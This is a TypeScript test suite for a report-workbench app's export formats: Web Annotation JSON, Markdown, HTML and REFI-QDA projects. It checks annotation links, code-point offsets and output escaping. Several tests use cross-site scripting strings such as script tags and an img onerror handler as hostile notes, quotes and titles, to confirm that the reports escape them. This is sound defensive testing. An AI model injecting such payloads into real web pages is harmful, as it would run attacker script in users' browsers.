
  beforeAll(async () => {
    ajv = suiteAjv();
    store = new WorkbenchStore(new WorkbenchDb({ name: 'export-carried', indexedDB: new IDBFactory(), IDBKeyRange }));
    d2015 = (await store.importDocument(txt, fixtureBytes('tip/tip-2015-excerpt.txt'))).document;
    const bytes2016 = new TextEncoder().encode(txt.text.replace(REWORDED_2015, REWORDED_2016));
    const ed2016 = await ingestFile({ fileName: 'tip-2016-excerpt.txt', bytes: bytes2016, pdfjs });
    d2016 = (await store.importDocument(ed2016, bytes2016)).document;
    const at = (t: string, passage: string) => {
      const start = t.indexOf(passage);
      expect(start, passage).toBeGreaterThanOrEqual(0);
      return { start, end: start + passage.length };
    };
    earlier = await store.createFinding({ documentId: d2015.id, ...at(txt.text, KEPT), tagIds: ['tag-protection'], note: 'Referral mechanism still not final.' });
    const { created, skipped } = await store.carryFindings([{ predecessorId: earlier.id, documentId: d2016.id, ...at(ed2016.text, KEPT) }]);
    expect(skipped).toEqual([]);
    carried = created[0]!;
    fresh = await store.createFinding({ documentId: d2016.id, ...at(ed2016.text, REWORDED_2016), tagIds: ['tag-prosecution'], note: '' });
    expect(carried.predecessorId).toBe(earlier.id);
  });

  it('links the later annotation to the earlier one in the same file, and only that one', async () => {
    // Through the export the app and the CLI save, parsed back from its bytes.
    const file = await exportFindings(await store.exportInput(), 'json');
    const doc = JSON.parse(new TextDecoder().decode(file.bytes)) as AnnotationCollection;
    const items = doc.first!.items;
    expect(items).toHaveLength(3);
    const byId = new Map(items.map((a) => [a.id, a]));
    const later = byId.get(annotationId(carried.id))!;
    const before = byId.get(annotationId(earlier.id))!;

    expect(linking(later)).toEqual([{ type: 'SpecificResource', purpose: 'linking', source: before.id }]);
    // The link resolves to the 2015 annotation on the same passage of the 2015 edition.
    const resolved = byId.get(linking(later)[0]!.source)!;
    expect(resolved).toBe(before);
    expect(resolved.target.source).toBe(`urn:sha256:${d2015.sha256}`);
    expect(later.target.source).toBe(`urn:sha256:${d2016.sha256}`);
    expect(d2015.sha256).not.toBe(d2016.sha256);
    // The tag and note came along; the motivation is still the analyst's tagging.
    expect(later.motivation).toBe('tagging');
    expect(later.body!.map((b) => b.purpose)).toEqual(['tagging', 'commenting', 'linking']);

    for (const a of [before, byId.get(annotationId(fresh.id))!]) {
      expect(linking(a), a.id).toEqual([]);
      expect(a.body!.every((b) => b.type === 'TextualBody')).toBe(true);
    }

    allMustsPass(doc);
    expect(termsOutsideContext(doc)).toEqual([]);
  });

  it('names the id the predecessor would have when its edition is not in the export', async () => {
    const all = await store.exportInput();
    const only2016 = findingsToWebAnnotation({ ...all, documents: all.documents.filter((d) => d.id === d2016.id) }, { documentUri: sha256Urn });
    const items = only2016.first!.items;
    expect(items.map((a) => a.id).sort()).toEqual([annotationId(carried.id), annotationId(fresh.id)].sort());
    const later = items.find((a) => a.id === annotationId(carried.id))!;
    // Not in this file, but the id the 2015 annotation has in every export (its finding's UUID).
    expect(linking(later)).toEqual([{ type: 'SpecificResource', purpose: 'linking', source: `urn:uuid:${earlier.id}` }]);
    expect(items.some((a) => a.id === `urn:uuid:${earlier.id}`)).toBe(false);
    const both = findingsToWebAnnotation(all, { documentUri: sha256Urn });
    expect(both.first!.items.some((a) => a.id === `urn:uuid:${earlier.id}`)).toBe(true);
    allMustsPass(only2016);
  });

  it('keeps a passage with only its link as highlighting, and still valid', async () => {
    // The carried tags deleted from the codebook since, and no note: only the link is left.
    const all = await store.exportInput();
    const bare = findingsToWebAnnotation(
      { ...all, tags: [], findings: all.findings.map((f) => ({ ...f, note: '' })) },
      { documentUri: sha256Urn },
    );
    const later = bare.first!.items.find((a) => a.id === annotationId(carried.id))!;
    expect(later.motivation).toBe('highlighting');
    expect(later.body).toEqual([{ type: 'SpecificResource', purpose: 'linking', source: annotationId(earlier.id) }]);
    expect(bare.first!.items.find((a) => a.id === annotationId(earlier.id))!.body).toBeUndefined();
    allMustsPass(bare);
  });

  it('fails the suite when the link is not a valid Specific Resource (the bodies are really checked)', () => {
    const later = findingsToWebAnnotation({ documents: [d2016], texts: {}, findings: [carried], tags: [] }, { documentUri: sha256Urn }).first!.items[0]!;
    expect(runTest('annotations/annotationMusts.test', JSON.parse(JSON.stringify(later))).failed).toEqual([]);
    const withBody = (body: unknown) => runTest('annotations/annotationMusts.test', { ...JSON.parse(JSON.stringify(later)), body: [body] }).failed;
    // A purpose the model does not define, and a Specific Resource without its source.
    expect(withBody({ type: 'SpecificResource', purpose: 'predecessor', source: annotationId(earlier.id) })).toContain('3.2-bodyObjectsRecognized.json');
    expect(withBody({ type: 'SpecificResource', purpose: 'linking' })).toContain('3.2-bodyObjectsRecognized.json');
  });
});

// ---------------------------------------------------------------------------------------------

describe('Markdown and HTML reports', () => {
  it('match the expected files', () => {
    expectSameAsFile(findingsToMarkdown(rows, TAGS, { title: 'TIP 2015 findings' }), 'findings.md');
    expectSameAsFile(findingsToHtml(rows, TAGS, { title: 'TIP 2015 findings' }), 'findings.html');
  });

  it('group by tag in tree order, then country, listing a finding under each of its tags', () => {
    const md = findingsToMarkdown(rows, TAGS);
    const headings = md.split('\n').filter((l) => /^#{2,3} /.test(l));
    expect(headings).toEqual([
      '## Prosecution',
      '### Luxembourg',
      '## Protection › Victim identification',
      '### Lithuania',
      '## Protection › Foreign victims',
      '### Lithuania',
      '## Prevention › Awareness',
      '### Luxembourg',
      '### No country',
      '## Recommendations',
      '### Luxembourg',
      '## Tier and compliance',
      '### Luxembourg',
      '## Untagged',
      '### Luxembourg',
      '## Documents',
    ]);
  });

  it('escape Markdown so nothing a finding says becomes structure', () => {
    expect(escapeMarkdown('# Not a heading')).toBe('\\# Not a heading');
    expect(escapeMarkdown('- item')).toBe('\\- item');
    expect(escapeMarkdown('+ item')).toBe('\\+ item');
    expect(escapeMarkdown('=====')).toBe('\\=====');
    expect(escapeMarkdown('1. item')).toBe('1\\. item');
    expect(escapeMarkdown('2015) item')).toBe('2015\\) item');
    expect(escapeMarkdown('*a* _b_ `c` [d](e) <f> &amp; | ~g~ $h$ \\')).toBe('\\*a\\* \\_b\\_ \\`c\\` \\[d\\](e) \\<f\\> \\&amp; \\| \\~g\\~ \\$h\\$ \\\\');
    expect(escapeMarkdown('U.S. Department of State, p. 12 - 3')).toBe('U.S. Department of State, p. 12 - 3');
    const md = findingsToMarkdown(rows, TAGS);
    expect(md).toContain('**Note:** \\# Not a heading\\\n\\- not a list\\\n1\\. not a list either, \\*nor\\* \\_emphasis\\_, \\`code\\` or \\[a link\\](http://example.com) \\| pipe');
    expect(md).toContain('**Note:** \\<img src=x onerror=alert(1)\\> \\<script\\>alert(2)\\</script\\>');
    expect(md).not.toMatch(/(^|[^\\])<(img|script)/);
  });

  it('write a standalone HTML page with a strict CSP and every text escaped', () => {
    const html = findingsToHtml(rows, TAGS);
    expect(html.startsWith('<!DOCTYPE html>\n<html lang="en">\n<head>\n<meta charset="utf-8" />\n')).toBe(true);
    expect(html).toContain(`<meta http-equiv="Content-Security-Policy" content="default-src 'none'; style-src 'unsafe-inline'" />`);
    expect(REPORT_CSP).toBe("default-src 'none'; style-src 'unsafe-inline'");
    expect(html).toContain('&lt;img src=x onerror=alert(1)&gt; &lt;script&gt;alert(2)&lt;/script&gt;');
    expect(html).not.toMatch(/<script|<img|<link|<iframe/i);
    // Only our own elements and attributes: whatever a finding says, it adds none.
    const tags = [...html.matchAll(/<([a-zA-Z][a-zA-Z0-9]*)([^>]*)>/g)];
    const elements = new Set(tags.map((m) => m[1]!.toLowerCase()));
    expect([...elements].sort()).toEqual(['article', 'blockquote', 'body', 'br', 'h1', 'h2', 'h3', 'head', 'html', 'li', 'meta', 'p', 'section', 'span', 'strong', 'style', 'title', 'ul']);
    const attributes = new Set(tags.flatMap((m) => [...m[2]!.matchAll(/\s([a-zA-Z-]+)="/g)].map((a) => a[1]!)));
    expect([...attributes].sort()).toEqual(['charset', 'class', 'content', 'http-equiv', 'lang', 'name', 'style']);
  });

  it('keeps a hostile quote literal in both reports', async () => {
    const hostile = await ingest(
      'hostile-2016.txt',
      new TextEncoder().encode(`PROTECTION\nThe NGO's submission read: ${HTML_ATTACK} and nothing else.\n`),
    );
    const doc = record(hostile, 'd0c00000-0000-4000-8000-000000000001', 'Hostile <b>title</b> & co', '2025-01-01T00:00:00.000Z');
    const f = finding(hostile, doc.id, { id: fid(50), passage: HTML_ATTACK, tagIds: ['tag-protection'], note: '</blockquote><script>alert(3)</script>', createdAt: '2025-01-01T00:00:00.000Z' });
    const hostileRows = findingRows({ documents: [doc], texts: new Map([[doc.id, text(hostile, doc.id)]]), findings: [f], tags: TAGS });
    expect(hostileRows[0]!.quote).toBe(HTML_ATTACK);

    const html = findingsToHtml(hostileRows, TAGS, { title: '<script>alert(4)</script>' });
    expect(html).not.toMatch(/<script|<img|<b>|<\/blockquote><script/i);
    // Parsed as XML (the page is polyglot markup), the block quote's text is the quote, character for character.
    expect(XMLValidator.validate(html)).toBe(true);
    const parsed = new XMLParser({ ignoreAttributes: true, isArray: () => false, processEntities: true, htmlEntities: false, stopNodes: ['*.style'] }).parse(html);
    expect(parsed.html.body.section[0].article.blockquote.p).toBe(HTML_ATTACK);
    expect(parsed.html.head.title).toBe('<script>alert(4)</script>');
    expect(html).toContain('Hostile &lt;b&gt;title&lt;/b&gt; &amp; co');

    const md = findingsToMarkdown(hostileRows, TAGS);
    expect(md).toContain('> \\<img src=x onerror=alert(1)\\> \\<script\\>alert(2)\\</script\\>');
    expect(md).toContain('**Note:** \\</blockquote\\>\\<script\\>alert(3)\\</script\\>');
  });
});

// ---------------------------------------------------------------------------------------------

const projectXsd = () => readFileSync(fixture('schemas/refi-qda/Project.xsd'), 'utf8');

async function expectValidProject(qde: string) {
  const result = await validateXML({ xml: [{ fileName: 'project.qde', contents: qde }], schema: [{ fileName: 'Project.xsd', contents: projectXsd() }] });
  expect(result.errors.map((e) => e.rawMessage)).toEqual([]);
  expect(result.valid).toBe(true);
}

function unzipQdpx(bytes: Uint8Array) {
  const files = unzipSync(bytes);
  const qde = strFromU8(files['project.qde']!);
  const parser = new XMLParser({
    ignoreAttributes: false,
    attributeNamePrefix: '',
    parseAttributeValue: false,
    isArray: (name) => ['Code', 'TextSource', 'PlainTextSelection', 'Coding'].includes(name),
  });
  return { files, qde, project: parser.parse(qde).Project };
}

type Selection = { guid: string; name: string; startPosition: string; endPosition: string; Description?: string; Coding?: { CodeRef: { targetGUID: string } }[] };

describe('REFI-QDA project (.qdpx)', () => {
  it('validates against Project.xsd and holds each document as a text source', async () => {
    const { files, qde, project } = unzipQdpx(findingsToQdpx(input, { name: 'TIP 2015', created: '2025-03-05T10:00:00Z' }));
    await expectValidProject(qde);
    expect(project).toMatchObject({ xmlns: 'urn:QDA-XML:project:1.0', name: 'TIP 2015', origin: 'Report Workbench', creationDateTime: '2025-03-05T10:00:00Z' });
    const sources = project.Sources.TextSource as Record<string, unknown>[];
    expect(sources.map((s) => s.guid)).toEqual([DOC_TXT.toUpperCase(), DOC_PDF.toUpperCase()]);
    for (const s of sources) {
      expect(s.plainTextPath).toBe(`internal://${s.guid}.txt`);
      expect(files[`sources/${s.guid}.txt`]).toBeDefined();
    }
    expect(strFromU8(files[`sources/${DOC_TXT.toUpperCase()}.txt`]!)).toBe(txt.text);
    expect(Object.keys(files).sort()).toEqual(['project.qde', `sources/${DOC_PDF.toUpperCase()}.txt`, `sources/${DOC_TXT.toUpperCase()}.txt`].sort());
  });

  it('writes the codebook with hierarchy, colours, descriptions and the codebook export’s GUIDs', () => {
    const { project } = unzipQdpx(findingsToQdpx(input));
    const codes = project.CodeBook.Codes.Code as Record<string, unknown>[];
    expect(codes.map((c) => c.name)).toEqual(['Prosecution', 'Protection', 'Prevention', 'Recommendations', 'Tier and compliance']);
    const protection = codes[1]!;
    expect(protection).toMatchObject({ guid: codeGuid(TAGS[1]!), color: '#2f9e44', isCodable: 'true', Description: 'Identifying victims and giving them care' });
    expect((protection.Code as Record<string, unknown>[]).map((c) => c.name)).toEqual(['Victim identification', 'Foreign victims']);
    expect(codes[2]!.Code).toEqual([expect.objectContaining({ name: 'Awareness', Description: 'Campaigns, training & hotlines' })]);
    for (const c of codes) expect(c.guid).toMatch(/^[0-9A-F]{8}-[0-9A-F]{4}-[1-5][0-9A-F]{3}-[89AB][0-9A-F]{3}-[0-9A-F]{12}$/);
    // A GUID kept from an imported codebook is written back unchanged.
    expect(codeGuid({ ...TAGS[0]!, guid: '{c9e3d7e0-4dbf-46e2-96ef-14574ecd3b90}' })).toBe('C9E3D7E0-4DBF-46E2-96EF-14574ECD3B90');
  });

  it('selects each finding by code points of the LF plain text, with its codings and note', () => {
    const { files, project } = unzipQdpx(findingsToQdpx(input));
    const sources = project.Sources.TextSource as Record<string, unknown>[];
    const codeByGuid = new Map(TAGS.map((t) => [codeGuid(t), t.id]));
    let checked = 0;
    for (const source of sources) {
      const plain = [...strFromU8(files[`sources/${source.guid}.txt`]!)];
      for (const sel of source.PlainTextSelection as Selection[]) {
        const f = input.findings.find((x) => x.id.toUpperCase() === sel.guid)!;
        expect(plain.slice(Number(sel.startPosition), Number(sel.endPosition)).join('')).toBe(f.quote.exact);
        expect((sel.Coding ?? []).map((c) => codeByGuid.get(c.CodeRef.targetGUID))).toEqual(rows.find((r) => r.id === f.id)!.tagIds);
        if (f.note) expect(sel.Description).toBe(f.note);
        checked++;
      }
    }
    // Every finding but the orphaned one.
    expect(checked).toBe(7);
    const txtSelections = sources[0]!.PlainTextSelection as Selection[];
    expect(txtSelections.find((s) => s.guid === fid(3).toUpperCase())!.Description).toBe(FORMULA);
  });

  it('counts positions in code points after an emoji and normalises CRLF to LF', async () => {
    const raw = 'PROTECTION\r\nIntro 😀 and 𝄞 here.\r\nThe 👩‍👩‍👧 TARGET passage follows.\r\nEnd.';
    const passage = 'TARGET passage';
    const start = raw.indexOf(passage);
    const doc: DocumentRecord = { ...input.documents[0]!, id: 'emoji-doc', title: 'Emoji', sha256: 'ab'.repeat(32) };
    const t: DocumentText = { documentId: doc.id, text: raw, pageStarts: [0], spans: [], structure: { year: null, yearSource: null, countries: [], outline: [] } };
    const f: Finding = {
      id: 'emoji-finding',
      documentId: doc.id,
      quote: quoteAt(raw, start, start + passage.length),
      position: { start, end: start + passage.length },
      page: 1,
      tagIds: ['tag-protection'],
      note: '',
      createdAt: '2025-01-01T00:00:00Z',
      updatedAt: '2025-01-01T00:00:00Z',
    };
    const { files, qde, project } = unzipQdpx(findingsToQdpx({ documents: [doc], texts: { [doc.id]: t }, findings: [f], tags: TAGS }));
    await expectValidProject(qde);
    const source = project.Sources.TextSource[0];
    const plain = strFromU8(files[`sources/${source.guid}.txt`]!);
    expect(plain).not.toContain('\r');
    const sel = source.PlainTextSelection[0] as Selection;
    // Before it: two CRLF pairs (one character each once LF) and five astral characters (😀, 𝄞 and
    // the family's three people; its two joiners are ordinary characters), two UTF-16 units each.
    expect(start).toBe(48);
    expect(Number(sel.startPosition)).toBe(48 - 2 - 5);
    expect([...plain].slice(Number(sel.startPosition), Number(sel.endPosition)).join('')).toBe(passage);
    expect(sel.guid).toMatch(/^[0-9A-F-]{36}$/);

    // The same passage ingested for real (ingestion keeps the emoji).
    const real = await ingest('emoji-2016.txt', new TextEncoder().encode(raw));
    const realStart = real.text.indexOf(passage);
    expect(realStart).toBeGreaterThan(0);
    const realDoc = record(real, 'd0c00000-0000-4000-8000-000000000002', 'Emoji', '2025-01-01T00:00:00Z');
    const rf = finding(real, realDoc.id, { id: fid(60), passage, tagIds: ['tag-protection'], createdAt: '2025-01-01T00:00:00Z' });
    const out = unzipQdpx(findingsToQdpx({ documents: [realDoc], texts: { [realDoc.id]: text(real, realDoc.id) }, findings: [rf], tags: TAGS }));
    const realSel = out.project.Sources.TextSource[0].PlainTextSelection[0] as Selection;
    const realPlain = [...strFromU8(out.files[`sources/${realDoc.id.toUpperCase()}.txt`]!)];
    expect(realPlain.slice(Number(realSel.startPosition), Number(realSel.endPosition)).join('')).toBe(passage);
    expect(Number(realSel.startPosition)).toBeLessThan(realStart);
    // The Web Annotation export counts the same way.
    const wa = findingsToWebAnnotation({ documents: [realDoc], texts: { [realDoc.id]: text(real, realDoc.id) }, findings: [rf], tags: TAGS }, { documentUri: sha256Urn });
    expect(wa.first!.items[0]!.target.selector[1]).toEqual({ type: 'TextPositionSelector', start: Number(realSel.startPosition), end: Number(realSel.endPosition) });
  });

  it('escapes markup in names and notes, and is the same archive every run', async () => {
    const tags: Tag[] = [{ id: 't', name: 'A & B <c> "d"', color: 'not a colour', description: '', order: 1 }];
    const f = { ...input.findings.find((x) => x.id === fid(5))!, tagIds: ['t'], note: `${HTML_ATTACK}\u0001 ]]> &amp;` };
    const small: ExportInput = { ...input, findings: [f], tags };
    const { qde, project } = unzipQdpx(findingsToQdpx(small));
    await expectValidProject(qde);
    expect(project.CodeBook.Codes.Code[0]).toMatchObject({ name: 'A & B <c> "d"' });
    expect(project.CodeBook.Codes.Code[0].color).toBeUndefined();
    const sel = project.Sources.TextSource[1].PlainTextSelection[0] as Selection;
    expect(sel.Description).toBe(`${HTML_ATTACK} ]]> &amp;`);
    expect(findingsToQdpx(small)).toEqual(findingsToQdpx(small));
  });

  it('writes a valid project without findings or tags', async () => {
    const { qde, project } = unzipQdpx(findingsToQdpx({ ...input, findings: [], tags: [] }));
    await expectValidProject(qde);
    expect(project.CodeBook).toBeUndefined();
    expect(project.Sources.TextSource).toHaveLength(2);
    await expectValidProject(unzipQdpx(findingsToQdpx({ documents: [], texts: {}, findings: [], tags: [] })).qde);
  });
});

describe('code-point offsets', () => {
  it('maps UTF-16 offsets to code points, rounding forward inside a pair', () => {
    const s = 'a😀b\r\nc';
    expect(Object.fromEntries(codePointOffsets(s, [0, 1, 2, 3, 4, 5, 6, 7, 99]))).toEqual({ 0: 0, 1: 1, 2: 2, 3: 2, 4: 3, 5: 4, 6: 5, 7: 6, 99: 6 });
    expect(Object.fromEntries(codePointOffsets(s, [5, 6, 7], { normalizeNewlines: true }))).toEqual({ 5: 4, 6: 4, 7: 5 });
  });
});

// ---------------------------------------------------------------------------------------------

describe('exports from the store', () => {
  it('exports what WorkbenchStore holds, in every format', async () => {
    const store = new WorkbenchStore(new WorkbenchDb({ name: 'export', indexedDB: new IDBFactory(), IDBKeyRange }));
    const bytes = fixtureBytes('tip/tip-2015-excerpt.pdf');
    const { document } = await store.importDocument(pdf, bytes);
    const passage = 'Authorities did not identify any foreign victims in 2014.';
    const start = pdf.text.indexOf(passage);
    const made = await store.createFinding({ documentId: document.id, start, end: start + passage.length, tagIds: ['tag-protection', 'tag-figure'], note: 'None in 2014.' });
    const storeInput: ExportInput = {
      documents: await store.listDocuments(),
      texts: new Map([[document.id, (await store.getText(document.id))!]]),
      findings: await store.listFindings(document.id),
      tags: await store.listTags(),
    };
    const [row] = findingRows(storeInput);
    expect(row).toMatchObject({ id: made.id, country: 'Lithuania', section: 'protection', page: 1, tags: 'Protection; Figure', note: 'None in 2014.' });
    expect(findingsToCsv([row!])).toContain(made.id);
    expect((await findingsToXlsx([row!], storeInput.tags)).length).toBeGreaterThan(1000);
    expect(findingsToWebAnnotation(storeInput, { documentUri: sha256Urn }).first!.items[0]!.id).toBe(`urn:uuid:${made.id}`);
    const { qde } = unzipQdpx(findingsToQdpx(storeInput));
    await expectValidProject(qde);
    expect(qde).toContain(`guid="${made.id.toUpperCase()}"`);
  });
});
